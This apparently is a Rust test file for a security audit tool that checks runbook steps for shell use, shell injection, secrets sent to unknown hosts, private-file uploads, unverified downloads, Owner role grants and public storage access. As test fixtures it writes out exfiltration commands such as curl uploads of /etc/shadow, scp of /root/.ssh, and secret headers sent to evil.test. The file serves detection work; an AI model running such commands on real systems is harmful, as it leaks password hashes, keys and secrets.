//! Other ways to break a rule than the plainest one, and runbooks that come near.

use super::{Place, broken, place, report};

/// A step, the rule in question, and whether it finds it.
pub(super) type Variant = (&'static str, &'static str, bool);

pub(super) fn check(variants: &[Variant], around: &str) {
    for (rule, step, expected) in variants {
        let place: Place = place(&format!("{around}\n{step}\n"));
        place.write("place/privkey.pem", "no key");
        place.write("place/notes.txt", "notes");
        let ran = place.run(&["audit", "-json", "place"]);
        assert_eq!(broken(&report(&ran)).contains(*rule), *expected, "{rule}: {step}\n{}", ran.seen());
    }
}

/// Returns a step that runs a program.
macro_rules! exec {
    ($argv:literal) => {
        concat!("step \"exec\" \"_x\" {\n  argv = ", $argv, "\n}")
    };
}

pub(super) const VALUE: &str = "variable \"v\" {}\nvariable \"key\" { ephemeral = true }\n";

#[test]
fn a_script_is_found_whatever_starts_it() {
    check(
        &[
            ("shell", exec!(r#"["env", "A=1", "sh", "-c", "true"]"#), true),
            ("shell", exec!(r#"["sudo", "-u", "me", "bash", "-c", "true"]"#), true),
            ("shell", exec!(r#"["timeout", "5", "nice", "nohup", "sh", "-c", "true"]"#), true),
            ("shell", exec!(r#"["busybox", "sh", "-c", "true"]"#), true),
            ("shell", exec!(r#"["bash", "-xc", "true"]"#), true),
            ("shell", exec!(r#"["bash5", "-ce", "true"]"#), true),
            ("shell", exec!(r#"["python3", "-c", "pass"]"#), true),
            ("shell", exec!(r#"["perl", "-e", "1"]"#), true),
            ("shell", exec!(r#"["ruby", "-e", "1"]"#), true),
            ("shell", exec!(r#"["node", "-e", "1"]"#), true),
            ("shell", exec!(r#"["ssh", "host", "uptime"]"#), true),
            ("shell", exec!(r#"["pwsh", "-EncodedCommand", "ZQA="]"#), true),
            ("shell", "step \"exec\" \"_x\" {\n  argv  = [\"bash\"]\n  stdin = \"true\"\n}", true),
            ("shell", exec!(r#"["sh", "deploy.sh"]"#), false),
            ("shell", exec!(r#"["apt-get", "install", "ssh", "php", "curl"]"#), false),
            ("shell-injection", exec!(r#"["sudo", "bash", "-ec", "echo ${var.v}"]"#), true),
            ("shell-injection", exec!(r#"["python3", "-c", "print('${var.v}')"]"#), true),
            ("shell-injection", exec!(r#"["ssh", "host", "echo", var.v]"#), true),
            ("shell-injection", exec!(r#"["sh", "-c", "eval \"$1\"", "x", var.v]"#), true),
            ("shell-injection", exec!(r#"concat(["sh", "-c"], ["echo ${var.v}"])"#), true),
            (
                "shell-injection",
                "step \"exec\" \"_x\" {\n  argv  = [\"bash\"]\n  stdin = \"echo ${var.v}\"\n}",
                true,
            ),
            (
                "shell-injection",
                "step \"exec\" \"_x\" {\n  argv        = [\"sh\", \"-c\", \"eval \\\"$X\\\"\"]\n  environment = { X = var.v }\n}",
                true,
            ),
            (
                "shell-injection",
                "step \"exec\" \"_x\" {\n  argv        = [\"sh\", \"-c\", \"echo \\\"$X\\\"\"]\n  environment = { X = var.v }\n}",
                false,
            ),
            ("shell-injection", exec!(r#"["sudo", "sh", "-c", "echo \"$1\"", "-", var.v]"#), false),
        ],
        VALUE,
    );
}

#[test]
fn a_host_that_nobody_knows_is_outside() {
    let to = |url: &str| {
        format!("step \"http\" \"_x\" {{\n  url     = \"{url}\"\n  headers = {{ X-Key = var.key }}\n}}")
    };
    for (url, expected) in [
        ("https://127.evil.test/", true),
        ("https://127.0.0.1:8080/", false),
        ("https://evil.${var.v}/", true),
        ("https://evil.test:${var.v}/", true),
        ("https://localhost:${var.v}/", false),
        ("https://${var.v}.vault.azure.net/", false),
        ("${var.v}/x", true),
        ("https://other01.blob.core.windows.net/c/b?sv=1&sig=abc", true),
        ("https://other01.blob.core.windows.net/c/b?${var.v}", true),
        ("https://acc01.blob.core.windows.net/c/b?comp=list", false),
    ] {
        let place = place(&format!("{VALUE}\n{}\n", to(url)));
        let ran = place.run(&["audit", "-json", "place"]);
        assert_eq!(broken(&report(&ran)).contains("secret-leaves-cloud"), expected, "{url}: {}", ran.seen());
    }
}

#[test]
fn a_secret_is_followed_into_a_store_and_through_a_file() {
    let file = "step \"file\" \"_f\" {\n  path    = \"key\"\n  content = var.key\n}\n";
    let upload = |source: &str| {
        format!(
            "{file}step \"blob_upload\" \"_u\" {{\n  account   = \"acc01\"\n  container = \"files\"\n  name      = \"b\"\n  source    = \"{source}\"\n}}"
        )
    };
    let put = "step \"http\" \"_p\" {\n  url    = \"https://acc01.blob.core.windows.net/c/b?sig=x\"\n  method = \"PUT\"\n  text   = var.key\n}";
    let copied = format!(
        "{file}step \"file\" \"_g\" {{\n  path   = \"copy\"\n  source = \"./key\"\n}}\n{}",
        upload("copy").replace(file, "")
    );
    for (steps, expected) in [
        (upload("key"), true),
        (upload("./key"), true),
        (upload("notes.txt"), false),
        (put.to_owned(), true),
        (copied, true),
    ] {
        let place = place(&format!("{VALUE}\n{steps}\n"));
        place.write("place/notes.txt", "notes");
        let found = report(&place.run(&["audit", "-json", "place"]));
        assert_eq!(broken(&found).contains("secret-in-object"), expected, "{steps}\n{found:#}");
    }
    // The page of secrets of a plan follows it too.
    let place = place(&format!("{VALUE}\n{}\n", upload("key")));
    let ran = place.run(&["plan", "-json", "-var", "key=abcdef", "-var", "v=1", "place"]);
    assert!(ran.out.contains("step.blob_upload._u"), "{}", ran.seen());
}

#[test]
fn a_private_file_is_known_however_it_leaves() {
    check(
        &[
            ("sends-private-file", exec!(r#"["curl", "-T", "/etc/shadow", "https://web.test/"]"#), true),
            (
                "sends-private-file",
                exec!(r#"["curl", "--data-binary", "@/etc/shadow-", "https://web.test/"]"#),
                true,
            ),
            ("sends-private-file", exec!(r#"["sudo", "scp", "/root/.ssh", "host:"]"#), true),
            (
                "sends-private-file",
                exec!(r#"["sh", "-c", "curl -F f=@/proc/1/root/etc/shadow https://web.test/"]"#),
                true,
            ),
            (
                "sends-private-file",
                exec!(r#"["scp", "-i", "/root/.ssh/id_rsa", "notes.txt", "host:"]"#),
                false,
            ),
            ("sends-private-file", exec!(r#"["cat", "/etc/shadow"]"#), false),
            (
                "sends-private-file",
                "step \"blob_upload\" \"_x\" {\n  account   = \"acc01\"\n  container = \"files\"\n  name      = \"b\"\n  content   = file(\"privkey.pem\")\n}",
                true,
            ),
            (
                "sends-private-file",
                "locals { text = filebase64(\"privkey.pem\") }\nstep \"http\" \"_x\" {\n  url    = \"https://localhost/\"\n  method = \"POST\"\n  text   = local.text\n}",
                true,
            ),
            (
                "sends-private-file",
                "step \"http\" \"_x\" {\n  url    = \"https://localhost/\"\n  method = \"POST\"\n  text   = file(\"notes.txt\")\n}",
                false,
            ),
        ],
        VALUE,
    );
}

#[test]
fn a_download_needs_a_look_at_its_own_digest() {
    let fetch = "step \"http\" \"get\" { url = \"https://web.test/tool\" }\n";
    let write = |more: &str| {
        format!(
            "{fetch}step \"file\" \"_f\" {{\n  path    = \"tool\"\n  content = step.http.get.body\n  {more}\n}}"
        )
    };
    let save = |more: &str| {
        format!(
            "step \"http\" \"_x\" {{\n  url     = \"https://web.test/tool\"\n  save_to = \"tool\"\n  {more}\n}}"
        )
    };
    let post = |condition: &str| {
        format!(
            "postcondition {{\n    condition     = {condition}\n    error_message = \"It is another one.\"\n  }}"
        )
    };
    let digest = "\nlocals { digest = sha256(step.http.get.body) }\noutput \"_d\" { value = local.digest }";
    let check = "\ncheck \"digest\" {\n  assert {\n    condition     = local.digest == \"x\"\n    error_message = \"It is another one.\"\n  }\n}";
    for (steps, expected) in [
        (write("mode = \"0755\""), true),
        (write("mode = \"0644\""), false),
        (write("mode = \"0755\"") + digest, true),
        (write("mode = \"0755\"") + digest + check, false),
        (write("").replace("\"tool\"\n", "\"tool.sh\"\n"), true),
        (save(""), true),
        (save(&post("self.size == 1234")), true),
        (save(&post("self.status == 200")), true),
        (save(&post("filesha256(self.status == 200 ? \"tool\" : \"\") == \"x\"")), false),
        (save("") + "\noutput \"_d\" { value = filesha256(\"notes.txt\") }", true),
    ] {
        let place = place(&steps);
        place.write("place/notes.txt", "notes");
        let ran = place.run(&["audit", "-json", "place"]);
        let found = broken(&report(&ran)).contains("download-without-digest");
        assert_eq!(found, expected, "{steps}\n{}", ran.seen());
    }
}

const OWNER: &str = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";

#[test]
fn a_role_is_seen_whatever_assigns_it() {
    let id = "/subscriptions/10000000-0000-4000-8000-000000000000/resourceGroups/g/providers/Microsoft.Authorization/roleAssignments/a";
    let role = format!("/providers/Microsoft.Authorization/roleDefinitions/{OWNER}");
    let body = format!("{{ properties = {{ roleDefinitionId = \"{role}\", principalId = \"p\" }} }}");
    let resource = |argument: &str, body: &str| {
        format!(
            "step \"arm_resource\" \"_x\" {{\n  id          = \"{id}\"\n  api_version = \"2022-04-01\"\n  {argument} = {body}\n}}"
        )
    };
    let http = format!(
        "step \"http\" \"_x\" {{\n  url      = \"https://management.azure.com{id}?api-version=2022-04-01\"\n  method   = \"PUT\"\n  audience = \"https://management.azure.com\"\n  json     = {body}\n}}"
    );
    let template = |role: &str| {
        format!(
            "step \"arm_deployment\" \"_x\" {{\n  name     = \"n\"\n  scope    = \"/subscriptions/10000000-0000-4000-8000-000000000000/resourceGroups/g\"\n  template = {{ resources = [{{ type = \"Microsoft.Authorization/roleAssignments\", apiVersion = \"2022-04-01\", name = \"n\", properties = {{ roleDefinitionId = \"{role}\" }} }}] }}\n}}"
        )
    };
    let reader = role.replace(OWNER, "acdd72a7-3385-48ef-bd42-f606fba81ae7");
    for (steps, owner, unknown) in [
        (resource("body", &body), true, false),
        (resource("body = {}\n  sensitive_body", &body), true, false),
        (resource("body", &body.replace(OWNER, "${var.v}")), false, true),
        (resource("body", "var.v"), false, true),
        (resource("body", &body.replace(&role, &reader)), false, false),
        (http, true, false),
        (template(&role), true, false),
        (template("[parameters('role')]"), false, true),
        (template(&reader), false, false),
    ] {
        let found =
            report(&place(&format!("variable \"v\" {{}}\n{steps}\n")).run(&["audit", "-json", "place"]));
        let broken = broken(&found);
        let seen = (broken.contains("rights-owner"), broken.contains("rights-unknown-role"));
        assert_eq!(seen, (owner, unknown), "{steps}\n{found:#}");
    }
}

#[test]
fn public_access_is_seen_whatever_writes_it() {
    let id = "/subscriptions/10000000-0000-4000-8000-000000000000/resourceGroups/g/providers/Microsoft.Storage/storageAccounts/acc01";
    for (steps, expected) in [
        (
            format!(
                "step \"arm_resource\" \"_x\" {{\n  id          = \"{id}\"\n  api_version = \"2023-05-01\"\n  body        = {{ properties = {{ allowBlobPublicAccess = \"true\" }} }}\n}}"
            ),
            true,
        ),
        (
            format!(
                "step \"arm_resource\" \"_x\" {{\n  id             = \"{id}\"\n  api_version    = \"2023-05-01\"\n  body           = {{}}\n  sensitive_body = {{ properties = {{ allowBlobPublicAccess = true }} }}\n}}"
            ),
            true,
        ),
        (
            format!(
                "step \"http\" \"_x\" {{\n  url    = \"https://management.azure.com{id}?api-version=2023-05-01\"\n  method = \"PATCH\"\n  json   = {{ properties = {{ allowBlobPublicAccess = true }} }}\n}}"
            ),
            true,
        ),
        (
            format!(
                "step \"http\" \"_x\" {{\n  url    = \"https://management.azure.com{id}?api-version=2023-05-01\"\n  method = \"PATCH\"\n  json   = {{ properties = {{ allowBlobPublicAccess = \"false\" }} }}\n}}"
            ),
            false,
        ),
    ] {
        let found = report(&place(&steps).run(&["audit", "-json", "place"]));
        assert_eq!(broken(&found).contains("public-access"), expected, "{steps}\n{found:#}");
    }
}

#[test]
#[cfg(unix)]
fn a_link_that_leads_out_is_not_followed() {
    let place = place("module \"_x\" { source = \"./link\" }\n");
    std::os::unix::fs::symlink("../outside", place.path().join("place/link")).expect("a link");
    let ran = place.run(&["audit", "-json", "place"]);
    assert!(ran.code == Some(3) && ran.seen().contains("a link that leads out"), "{}", ran.seen());
}
